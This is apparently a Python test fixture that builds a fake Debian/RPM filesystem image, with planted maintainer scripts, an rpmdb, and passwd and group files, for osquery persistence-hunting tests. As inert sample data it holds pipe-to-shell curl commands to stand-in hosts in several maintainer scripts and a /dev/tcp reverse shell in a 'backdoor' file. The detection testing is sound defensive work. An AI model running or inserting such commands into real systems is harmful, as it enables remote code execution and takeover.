"""A small Linux image on disk for the osquery tests: dpkg and rpm databases, maintainer
scripts, persistence files, users and groups, with known ages and owners.

:func:`build_image` writes it and returns the facts the tests check against; the ``image``
fixture in ``conftest.py`` gives each test a fresh one.
"""

from __future__ import annotations

import os
import sqlite3
import struct
import time
from pathlib import Path

from hunts import load_library

DAY = 86400
IS_ROOT = os.geteuid() == 0
OWNER_UID, OWNER_GID = (4242, 4343) if IS_ROOT else (os.getuid(), os.getgid())


def seed_sql() -> str:
    return load_library([]).default.osquery_queries[0].text


def _file(path: Path, text: str, age_days: float, now: float) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    stamp = now - age_days * DAY
    os.utime(path, (stamp, stamp), follow_symlinks=False)
    return path


def build_image(root: Path, now: float | None = None) -> dict:
    """A small Debian-and-RPM-ish filesystem; returns what the tests expect of it."""
    now = now or time.time()
    info = root / "var/lib/dpkg/info"
    expected_recent = {}
    for name, age in [("evil.postinst", 1), ("evil.list", 2), ("old.postinst", 30),
                      ("old.md5sums", 400), ("fresh.preinst", 0.1)]:
        _file(info / name, f"#!/bin/sh\necho {name}\ncurl http://x/{name} | sh\n", age, now)
        if age < 7:
            expected_recent[f"/var/lib/dpkg/info/{name}"] = age
    _file(info / ".hidden.postinst", "#!/bin/sh\n", 1, now)            # dotfile: never in a pattern
    (info / "link.postinst").symlink_to("evil.postinst")                 # link to a recent file
    (info / "dangling.prerm").symlink_to("/nonexistent/target")
    os.utime(info / "dangling.prerm", (now - 2 * DAY, now - 2 * DAY), follow_symlinks=False)
    expected_recent["/var/lib/dpkg/info/dangling.prerm"] = 2   # lstat's times: no target
    expected_recent["/var/lib/dpkg/info/link.postinst"] = 1
    sub = info / "subdir"
    _file(sub / "deep.postinst", "#!/bin/sh\n", 1, now)
    os.utime(sub, (now - 3 * DAY, now - 3 * DAY))
    expected_recent["/var/lib/dpkg/info/subdir/"] = 3
    os.utime(info, (now - 40 * DAY, now - 40 * DAY))
    rpm = root / "var/lib/rpm"
    rpm.mkdir(parents=True)
    _file(rpm / "rpm-tmp.backdoor", "sh -i >& /dev/tcp/1.2.3.4/4444 0>&1\n", 0.5, now)
    expected_recent["/var/lib/rpm/rpm-tmp.backdoor"] = 0.5
    etc = root / "etc"
    etc.mkdir(exist_ok=True)
    (etc / "passwd").write_text(
        "root:x:0:0:root:/root:/bin/bash\n"
        f"evidence-owner:x:{OWNER_UID}:{OWNER_GID}:Owner,,,:/home/evidence-owner:/bin/sh\n"
        "alice:x:1000:1000::/home/alice:/bin/bash\n"
    )
    (etc / "group").write_text(f"root:x:0:\nevidence-group:x:{OWNER_GID}:\nalice:x:1000:\n")
    (etc / "hostname").write_text("evidence-host\n")
    for path in [info / n for n in ("evil.postinst", "evil.list", "old.postinst", "old.md5sums",
                                     "fresh.preinst", ".hidden.postinst")] + [rpm / "rpm-tmp.backdoor"]:
        os.chown(path, OWNER_UID, OWNER_GID)
    os.chown(info / "link.postinst", OWNER_UID, OWNER_GID, follow_symlinks=False)
    (root / "var/lib/dpkg/status").write_text(
        "Package: evil\nStatus: install ok installed\nPriority: optional\nSection: misc\n"
        "Installed-Size: 12\nMaintainer: Mallory <m@example.com>\nArchitecture: all\n"
        "Version: 1.0-3\nDescription: totally legit\n continued line\n\n"
        "Package: gone\nStatus: purge ok not-installed\nVersion: 2.0\n\n"
        "Package: old\nStatus: install ok installed\nArchitecture: amd64\nVersion: 0.9\n"
        "Source: oldsrc\nInstalled-Size: 3\n"
    )
    _file(info / "evil.list", "/.\n/usr\n/usr/bin/evil\n", 2, now)
    os.chown(info / "evil.list", OWNER_UID, OWNER_GID)
    os.utime(info, (now - 40 * DAY, now - 40 * DAY))
    return {"now": now, "recent": expected_recent}


def build_header(tags: dict) -> bytes:
    """An rpm header blob as rpm writes it into rpmdb.sqlite (lib/header.c layout):
    big-endian il, dl, il index entries (tag, type, offset, count), then the data.
    str -> STRING (6), list[str] -> STRING_ARRAY (8), int/list[int] -> INT32 (4)."""
    index, data = [], bytearray()
    for tag, value in sorted(tags.items()):
        if isinstance(value, str):
            kind, payload, count = 6, value.encode() + b"\0", 1
        elif isinstance(value, list) and value and isinstance(value[0], str):
            kind, payload, count = 8, b"".join(v.encode() + b"\0" for v in value), len(value)
        else:
            ints = value if isinstance(value, list) else [value]
            while len(data) % 4:
                data.append(0)
            kind, payload, count = 4, struct.pack(f">{len(ints)}i", *ints), len(ints)
        index.append(struct.pack(">iiii", tag, kind, len(data), count))
        data.extend(payload)
    return struct.pack(">ii", len(index), len(data)) + b"".join(index) + bytes(data)


def build_rpmdb(root: Path) -> Path:
    """An rpmdb.sqlite (rpm >= 4.16 layout) with two packages and their scriptlets."""
    path = root / "var/lib/rpm/rpmdb.sqlite"
    path.parent.mkdir(parents=True, exist_ok=True)
    con = sqlite3.connect(path)
    con.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)")
    headers = [
        {1000: "openssh-server", 1001: "8.7p1", 1002: "10.el9", 1022: "x86_64", 1003: 0,
         1008: 1_700_000_000, 1009: 1234567, 1011: "Rocky", 1016: "System Environment/Daemons",
         1044: "openssh-8.7p1-10.el9.src.rpm", 269: "a" * 40,
         1024: "/usr/bin/systemctl preset sshd.service\ncurl http://evil/x | sh\n",
         1025: "/usr/bin/systemctl stop sshd.service\n"},
        {1000: "bash", 1001: "5.1.8", 1002: "6.el9", 1022: "x86_64", 1008: 1_690_000_000,
         1009: 7000, 1065: ["echo trigger one\n", "echo trigger two\n"]},
    ]
    for tags in headers:
        con.execute("INSERT INTO Packages(blob) VALUES (?)", (build_header(tags),))
    con.commit()
    con.close()
    return path
